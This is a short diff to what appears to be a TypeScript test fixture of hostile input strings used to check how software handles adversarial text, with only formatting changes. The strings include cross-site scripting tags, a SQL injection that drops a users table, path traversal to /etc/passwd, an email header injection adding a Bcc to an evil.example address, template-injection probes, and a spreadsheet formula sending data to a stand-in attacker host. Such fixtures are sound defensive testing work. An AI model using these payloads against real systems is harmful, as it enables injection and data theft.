@@ -6,11 +6,13 @@ export const hostileTexts: Record<string, (mark: string) => string> = {
   'half of a character': (mark) => `\ud83d${mark}\udc00`,
   'marks upon marks': (mark) => `Z\u0301\u0327${'\u0336'.repeat(20)}${mark}👩‍👩‍👧‍👧🏳️‍🌈`,
   'a very long word': (mark) => mark + 'x'.repeat(60_000),
-  'markup': (mark) => `"><hw-evil>${mark}</hw-evil><img src=x onerror=alert(1)><script>alert(1)</script>'`,
+  markup: (mark) =>
+    `"><hw-evil>${mark}</hw-evil><img src=x onerror=alert(1)><script>alert(1)</script>'`,
   'a statement': (mark) => `'; drop table users; -- ${mark}" or 1=1 /*`,
   'a path': (mark) => `../../../../etc/passwd/${mark}/..%2f..%5c`,
-  'line breaks of a header': (mark) => `${mark}\r\nBcc: spy@evil.example\r\nX-Hostile: yes\r\n\r\n<b>body</b>`,
-  'templates': (mark) => `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} %s %n {0} ${mark} $& $1`,
+  'line breaks of a header': (mark) =>
+    `${mark}\r\nBcc: spy@evil.example\r\nX-Hostile: yes\r\n\r\n<b>body</b>`,
+  templates: (mark) => `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} %s %n {0} ${mark} $& $1`,
   'a formula': (mark) => `=HYPERLINK("https://evil.example?${mark}","x")`,
   'a name of every object': (mark) => `__proto__ constructor toString ${mark}`,
   'a search': (mark) => `"${mark}* NEAR(a b) -c OR *`,
